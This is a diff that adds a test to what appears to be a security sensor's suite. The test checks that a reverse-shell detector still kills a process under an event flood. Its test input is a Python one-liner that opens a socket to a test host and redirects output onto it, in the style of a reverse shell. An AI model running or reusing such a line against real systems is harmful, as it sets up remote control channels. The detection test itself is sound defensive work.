@@ -181,3 +181,32 @@ describe('look-alikes stay quiet', () => {
     expect(j.stdout.trim().split('\n').at(-1)).toBe('fine');
   });
 });
+
+describe('under an event flood', () => {
+  it('a detection still kills when the ring buffer is full and JS is not reading', async () => {
+    const { Sensor } = await import('../../src/sensor/sensor');
+    const { Cgroup } = await import('../../src/cgroup/cgroup2');
+    const { JobLockdown } = await import('../../src/enforce/lockdown');
+    // a tiny ring buffer, and a reader that is never started: every event is a drop
+    const sensor = Sensor.open({ ringBufferBytes: 1 << 16 });
+    const cgroup = Cgroup.create(`ringfence-test/${process.pid}-flood-kill`);
+    sensor.track(cgroup);
+    const lockdown = new JobLockdown(sensor.kernel(), cgroup.id, ['Reverse-Shell']);
+    try {
+      const flood = cgroup.spawn(fixture('syscall_flood'), ['ptrace', '300000'], { stdio: 'ignore' });
+      await new Promise((resolve) => flood.on('exit', resolve));
+      expect(sensor.stats().dropped).toBeGreaterThan(0); // the buffer is full, and stays full
+      const offender = cgroup.spawn(PYTHON, ['-c', `import socket,os;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));os.dup2(s.fileno(),1);os.write(2,b"survived")`], { stdio: ['ignore', 'ignore', 'pipe'] });
+      let stderr = '';
+      offender.stderr!.on('data', (d) => (stderr += d));
+      const signal = await new Promise((resolve) => offender.on('exit', (_code, sig) => resolve(sig)));
+      expect(signal).toBe('SIGKILL');
+      expect(stderr).toBe('');
+      expect(lockdown.kills()).toBe(1);
+    } finally {
+      lockdown.remove();
+      sensor.destroy();
+      await cgroup.destroy();
+    }
+  });
+});
